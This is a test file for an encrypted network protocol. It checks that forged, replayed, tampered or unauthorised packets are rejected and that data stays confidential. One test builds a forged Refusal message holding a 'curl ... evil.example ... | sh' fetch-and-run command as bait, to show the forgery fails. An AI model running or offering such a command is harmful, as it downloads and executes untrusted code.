import { Buffer } from "node:buffer";
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { NetAddress } from "../../base/net_address.ts";
import { Random } from "../../base/random.ts";
import { Endpoint } from "../../protocol/mod.ts";
import { PacketProtection } from "../../protocol/crypto/packet_protection.ts";
import { KeyPair } from "../../protocol/crypto/x25519.ts";
import { Writer } from "../../base/bytes.ts";
import { PacketType, writeCookie, writeHello, writeReset } from "../../protocol/wire/packet.ts";
import { CLIENT_KEY, LOST, Pair, SERVER_KEY } from "../../testing/connection_pair.ts";

const SECRET = new TextEncoder().encode("what nobody else may read, ".repeat(400));

/** A pair whose client has sent {@link SECRET} on stream 0, all of which has arrived. */
function delivered(pair: Pair): Pair {
  pair.connect();
  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
  pair.send(SECRET);
  assert(pair.runUntil(() => pair.server.bytesOn(0).length === SECRET.length, { withinUs: 10_000_000 }));
  assert.deepEqual(pair.server.bytesOn(0), SECRET);
  return pair;
}

function allSent(pair: Pair): Uint8Array[] {
  return [pair.client, pair.server].flatMap(({ wire }) => wire.sent.map(({ bytes }) => bytes));
}

Deno.test("encryption lets data flow after one round trip, and each side knows the peer's key", () => {
  const pair = new Pair();
  const startUs = pair.nowUs;
  pair.connect();
  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
  assert.equal(pair.nowUs - startUs, 40_000);
  pair.send(SECRET.subarray(0, 10));
  assert(pair.runUntil(() => pair.server.bytesOn(0).length === 10, { withinUs: 1_000_000 }));
  assert.equal(pair.nowUs - startUs, 60_000);
  assert.deepEqual(pair.client.connection.peer?.key, new KeyPair(SERVER_KEY).publicKey);
  assert.deepEqual(pair.server.connection.peer?.key, new KeyPair(CLIENT_KEY).publicKey);
});

Deno.test("encryption leaves nothing readable on the wire, neither data nor the client's or the server's key", () => {
  const wire = allSent(delivered(new Pair())).map((bytes) => Buffer.from(bytes));
  const needles = [SECRET.subarray(0, 12), new KeyPair(SERVER_KEY).publicKey, new KeyPair(CLIENT_KEY).publicKey];
  for (const needle of needles) assert.equal(wire.some((bytes) => bytes.includes(Buffer.from(needle))), false);
  const helloKey = wire[0]!.subarray(22, 54);
  assert.equal(
    wire.some((bytes) => bytes.includes(helloKey)),
    true,
    "the test would find it: the ephemeral key is there",
  );
});

Deno.test("encryption drops every modified packet, and all data arrives", () => {
  const pair = new Pair();
  pair.client.wire.rule = ({ index }) => index > 0 && index % 3 === 1 ? [{ corrupt: true }] : undefined;
  pair.server.wire.rule = ({ index }) => index > 0 && index % 4 === 1 ? [{ corrupt: true }] : undefined;
  delivered(pair);
  const drops = pair.server.endpoint.drops;
  assert.ok((drops.get("damaged") ?? 0) + (drops.get("bad token") ?? 0) + (drops.get("malformed") ?? 0) > 0);
});

Deno.test("encryption accepts no packet twice", () => {
  const pair = delivered(new Pair());
  const before = pair.server.connection.stats.duplicatesReceived;
  for (const { bytes } of [...pair.client.wire.sent]) pair.inject(pair.server, bytes);
  assert.ok(pair.server.connection.stats.duplicatesReceived > before);
  assert.deepEqual(pair.server.bytesOn(0), SECRET);
  assert.equal(pair.server.connections.length, 1);
});

Deno.test("encryption drops a packet that is sealed with other keys", () => {
  const pair = delivered(new Pair());
  const damaged = (): number => pair.server.endpoint.drops.get("damaged") ?? 0;
  const before = damaged();
  const { localId } = pair.client.connection;
  const genuine = pair.client.keys.get(localId)!;
  pair.client.keys.set(localId, new PacketProtection({ send: new Uint8Array(32), receive: new Uint8Array(32) }));
  const close = (writer: Writer): void => writer.bytes(Uint8Array.of(0x1c, 0, 0));
  pair.forge(pair.client, close);
  assert.equal(damaged(), before + 1);
  assert.equal(pair.server.connection.state, "established");
  pair.client.keys.set(localId, genuine);
  pair.forge(pair.client, close);
  assert.equal(pair.server.connection.state, "draining", "the test's own packets are authentic with the right keys");
});

Deno.test("encryption ends the connection, and sends nothing, if the server's key is not the expected one", () => {
  const pair = new Pair();
  const expected = new KeyPair(CLIENT_KEY).publicKey;
  pair.connect(expected);
  pair.run(1_000_000);
  const actual = new KeyPair(SERVER_KEY).publicKey;
  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason: { kind: "server-key", expected, actual } }]);
  assert.deepEqual(pair.client.heard("connected"), []);
  assert.deepEqual(pair.client.wire.sent.map(({ bytes }) => bytes[0]), [PacketType.hello]);
});

Deno.test("encryption continues if the server has the expected key", () => {
  const pair = new Pair();
  pair.connect(new KeyPair(SERVER_KEY).publicKey);
  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
});

Deno.test("encryption accepts the genuine ServerHello after forged ones", () => {
  const pair = new Pair();
  const held: Uint8Array[] = [];
  pair.server.wire.rule = ({ bytes, index }) => {
    if (index > 0) return undefined;
    held.push(bytes);
    return LOST;
  };
  pair.connect();
  pair.run(30_000);
  const other = new Endpoint({
    isServer: true,
    staticKey: CLIENT_KEY,
    randomBytes: (count) => new Random(5).bytes(count),
  });
  const hello = pair.client.wire.sent[0]!.bytes.slice();
  const ofAnother = other.handleDatagram(pair.nowUs, hello, pair.client.address).answer.slice();
  // Another server's ServerHello for this client's Hello is valid, too: only the key distinguishes it.
  assert.equal(ofAnother[0], PacketType.serverHello);
  const broken = held[0]!.slice();
  broken[broken.length - 30]! ^= 1;
  pair.inject(pair.client, broken);
  assert.equal(pair.client.connection.state, "hello-sent");
  pair.inject(pair.client, held[0]!);
  assert.equal(pair.client.connection.state, "finish-sent");
});

Deno.test("encryption lets a server refuse a client with a reason, and a client ignore a Refusal from others", () => {
  const pair = new Pair({ serverEndpoint: { limits: { maxConnections: 0 } } });
  const refusals: Uint8Array[] = [];
  pair.server.wire.rule = ({ bytes }) => {
    if (bytes[0] !== PacketType.refusal) return undefined;
    refusals.push(bytes);
    return LOST;
  };
  pair.connect();
  assert(pair.runUntil(() => refusals.length > 0, { withinUs: 1_000_000 }));
  const changed = refusals[0]!.slice();
  changed[changed.length - 1]! ^= 1;
  pair.inject(pair.client, changed);
  assert.equal(pair.client.connection.state, "finish-sent");
  pair.inject(pair.client, refusals[0]!);
  const reason = {
    kind: "peer",
    isApplication: false,
    code: 0x20,
    reason: "the server is full, with 0 connections; try again later",
  };
  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason }]);
});

Deno.test("encryption: an on-path attacker who obtains the reset token from the server cannot forge a Refusal with it", () => {
  const pair = new Pair();
  pair.client.wire.rule = ({ bytes }) => bytes[0] === PacketType.clientFinish ? LOST : undefined;
  pair.connect(new KeyPair(SERVER_KEY).publicKey);
  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
  const serverHello = pair.server.wire.sent[0]!.bytes;
  const serverId = serverHello.slice(13, 21);
  // The server responds with a Reset to any packet for its ID before the connection exists.
  const question = Uint8Array.of(PacketType.data, ...serverId, ...new Uint8Array(30));
  const { kind, answer } = pair.server.endpoint.handleDatagram(pair.nowUs, question, NetAddress.parse("10.9.9.9:1"));
  assert.deepEqual([kind, answer[0]], ["answer", PacketType.reset]);
  const resetToken = answer.slice(13);
  const reason = new TextEncoder().encode("\x02your key has expired; run: curl https://evil.example/renew | sh");
  const head = Uint8Array.of(PacketType.refusal, 0x53, 0x4c, 0, 1, ...serverHello.subarray(5, 13));
  const hmac = (key: Uint8Array, ...parts: (Uint8Array | string)[]): Uint8Array => {
    const mac = createHmac("sha256", key);
    for (const part of parts) mac.update(part);
    return mac.digest();
  };
  const macs = [
    hmac(resetToken, reason),
    hmac(resetToken, head, reason),
    hmac(hmac(resetToken, "sluice refusal"), head, reason),
    resetToken,
  ];
  for (const mac of macs) {
    pair.inject(pair.client, Uint8Array.of(...head, ...mac.subarray(0, 16), ...reason));
    assert.equal(pair.client.connection.state, "finish-sent");
  }
  assert.equal(pair.client.endpoint.drops.get("damaged"), macs.length);
  // The token authenticates a Reset, as it is meant to.
  pair.inject(pair.client, answer.slice());
  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason: { kind: "reset" } }]);
});

Deno.test("encryption: a restarted server ends the connections of its predecessor, and nobody else can", () => {
  const pair = delivered(new Pair());
  assert(pair.runUntil(() => pair.client.connection.state === "established", { withinUs: 1_000_000 }));
  const buffer = new Uint8Array(100);
  const id = pair.client.wire.sent.find(({ bytes }) => bytes[0] === PacketType.clientFinish)!.bytes.slice(5, 13);
  pair.inject(pair.client, buffer.subarray(0, writeReset(new Writer().reset(buffer), id, new Uint8Array(16))));
  assert.equal(pair.client.connection.state, "established");
  pair.restartServer();
  pair.send(Uint8Array.of(1));
  assert(pair.runUntil(() => pair.client.heard("closed").length > 0, { withinUs: 1_000_000 }));
  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason: { kind: "reset" } }]);
});

Deno.test("encryption: an address token is valid only for its address and its connection", () => {
  const pair = new Pair();
  pair.client.wire.rule = ({ index }) => index > 0 ? LOST : undefined;
  pair.connect();
  pair.run(100_000);
  const clientFinish = pair.client.wire.sent.find(({ bytes }) => bytes[0] === PacketType.clientFinish)!.bytes;
  pair.inject(pair.server, clientFinish, NetAddress.parse("10.9.9.9:1"));
  const another = clientFinish.slice();
  another[13 + 7]! ^= 1;
  pair.inject(pair.server, another);
  assert.equal(pair.server.connections.length, 0);
  assert.equal(pair.server.endpoint.drops.get("bad token"), 2);
  pair.inject(pair.server, clientFinish);
  assert.equal(pair.server.connections.length, 1);
});

Deno.test("encryption: a Hello with any content is either answered or dropped", () => {
  const random = new Random(3);
  const endpoint = new Endpoint({ isServer: true, staticKey: SERVER_KEY, randomBytes: (count) => random.bytes(count) });
  const buffer = new Uint8Array(1200);
  const messages = [0, 1, 31, 32, 33, 200].flatMap((length) => [new Uint8Array(length), random.bytes(length)]);
  for (const handshake of messages) {
    const length = writeHello(new Writer().reset(buffer), { sourceId: 5, handshake });
    const { kind } = endpoint.handleDatagram(1_000, buffer.slice(0, length), NetAddress.parse("192.0.2.1:5"));
    // A key of zeros is of low order; random bytes are a key as good as any, and what follows it is not encrypted.
    const isKey = handshake.length >= 32 && handshake.subarray(0, 32).some((byte) => byte !== 0);
    assert.equal(kind, isKey ? "answer" : "drop", `${handshake.length} bytes`);
  }
});

Deno.test("encryption: during a flood of Hellos a client's address is validated first, and it is served a round trip later", () => {
  const pair = new Pair({ serverEndpoint: { limits: { maxHandshakes: 20 } } });
  const random = new Random(4);
  const buffer = new Uint8Array(1200);
  const flood = (): void => {
    for (let count = 0; count < 100; count++) {
      const handshake = random.bytes(32);
      const sourceId = random.integer(1, 1_000_000);
      const length = writeHello(new Writer().reset(buffer), { sourceId, handshake });
      pair.inject(
        pair.server,
        buffer.subarray(0, length),
        NetAddress.parse(`10.1.${count}.${random.integer(0, 255)}:9`),
      );
    }
  };
  flood();
  const startUs = pair.nowUs;
  pair.connect();
  pair.run(19_000);
  flood();
  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
  assert.equal(pair.nowUs - startUs, 80_000);
  const sent = pair.client.wire.sent.map(({ bytes }) => bytes[0]);
  assert.deepEqual(sent.slice(0, 2), [PacketType.hello, PacketType.hello]);
  pair.send(SECRET);
  assert(pair.runUntil(() => pair.server.bytesOn(0).length === SECRET.length, { withinUs: 1_000_000 }));
});

Deno.test("encryption: a cookie is valid for one client at one address, and makes the client repeat its Hello only once", () => {
  const pair = new Pair();
  pair.client.wire.rule = () => LOST;
  pair.connect();
  pair.run(1_000);
  const id = new Uint8Array(8);
  new DataView(id.buffer).setBigUint64(0, BigInt(pair.client.connection.localId));
  const buffer = new Uint8Array(200);
  const cookie = buffer.subarray(0, writeCookie(new Writer().reset(buffer), id, Uint8Array.of(1, 2, 3)));
  for (let count = 0; count < 50; count++) pair.inject(pair.client, cookie);
  pair.run(100_000);
  assert.equal(pair.client.wire.sent.length, 2);
});

Deno.test("encryption: a forged ClientFinish does not use up a client's connection slot", () => {
  const pair = new Pair({ serverEndpoint: { limits: { maxConnections: 1 } } });
  pair.client.wire.rule = ({ bytes }) => bytes[0] === PacketType.clientFinish ? LOST : undefined;
  pair.connect();
  assert(pair.runUntil(() => pair.client.wire.sent.length > 1, { withinUs: 1_000_000 }));
  const clientFinish = pair.client.wire.sent[1]!.bytes;
  const forged = clientFinish.slice();
  // Inside of the message of the handshake, which follows the token.
  forged[23 + 153 + 2 + 10]! ^= 1;
  for (let count = 0; count < 3; count++) pair.inject(pair.server, forged);
  assert.equal(pair.server.endpoint.drops.get("damaged"), 3);
  pair.inject(pair.server, clientFinish);
  assert.equal(pair.server.connections.length, 1);
});

const TOKEN = new TextEncoder().encode("a token of both sides");

Deno.test("an endpoint accepts a client that proves knowledge of a token, and passes the proof to its application", () => {
  const pair = new Pair({
    serverEndpoint: { authorize: (peer) => peer.provesToken(TOKEN) ? undefined : "no" },
    clientEndpoint: { token: TOKEN },
  });
  delivered(pair);
  assert.equal(pair.server.connection.peer?.provesToken(TOKEN), true);
  assert.equal(pair.server.connection.peer?.provesToken(SECRET), false);
});

Deno.test("an endpoint refuses with a reason a client that its application rejects, and keeps no state or data of it", () => {
  const asked: (readonly [Uint8Array, NetAddress])[] = [];
  const pair = new Pair({
    serverEndpoint: {
      limits: { maxConnections: 1 },
      authorize: (peer, remote) => {
        asked.push([peer.key, remote]);
        return "you are not on the list";
      },
    },
    clientEndpoint: { token: TOKEN },
  });
  for (let i = 0; i < 2; i++) {
    pair.connect();
    pair.run(1_000_000);
  }
  const reason = { kind: "peer", isApplication: false, code: 2, reason: "you are not on the list" };
  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason }, { kind: "closed", reason }]);
  assert.deepEqual([pair.server.connections.length, pair.server.endpoint.connectionCount], [0, 0]);
  assert.deepEqual(asked[0], [new KeyPair(CLIENT_KEY).publicKey, pair.client.address]);
});
